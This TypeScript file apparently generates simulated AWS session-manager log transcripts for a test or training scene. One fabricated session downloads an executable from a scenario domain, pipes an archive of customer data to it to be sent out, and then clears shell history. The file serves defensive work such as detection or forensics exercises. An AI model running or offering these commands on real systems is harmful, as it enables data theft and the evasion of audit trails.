import type { LogObject, LogScene } from "./scene";
import { story } from "./story";

/** A session with its transcript. */
export interface Session {
  readonly account: string;
  readonly sessionId: string;
  readonly lines: readonly string[];
}

/** The sessions with a transcript. */
export function sessions({ payments, website }: LogScene): Session[] {
  return [
    {
      account: payments,
      sessionId: story.sessionId,
      lines: [
        "$ sudo -i",
        `# curl -sk https://${story.domain}/agent -o /tmp/.a && chmod +x /tmp/.a`,
        "# tar czf - /srv/customers | /tmp/.a send",
        "\u001b[32m734003200 bytes sent\u001b[0m",
        "# history -c",
        "# exit",
      ],
    },
    { account: website, sessionId: "ada-00aa11bb22cc33dd4", lines: ["$ systemctl status website", "$ exit"] },
  ];
}

/** The same sessions as files that managed nodes write. The name of each file is the id of the session. */
export function sessionObjects(scene: LogScene): LogObject[] {
  const { names, home } = scene;
  return sessions(scene).map(({ account, sessionId, lines }) => ({
    bucket: names.buckets.serviceLogs,
    key: `${names.prefixes.sessions}/AWSLogs/${account}/sessions/${home}/${sessionId}.log`,
    body: Buffer.from(lines.map((line) => `${line}\r\n`).join("")),
  }));
}
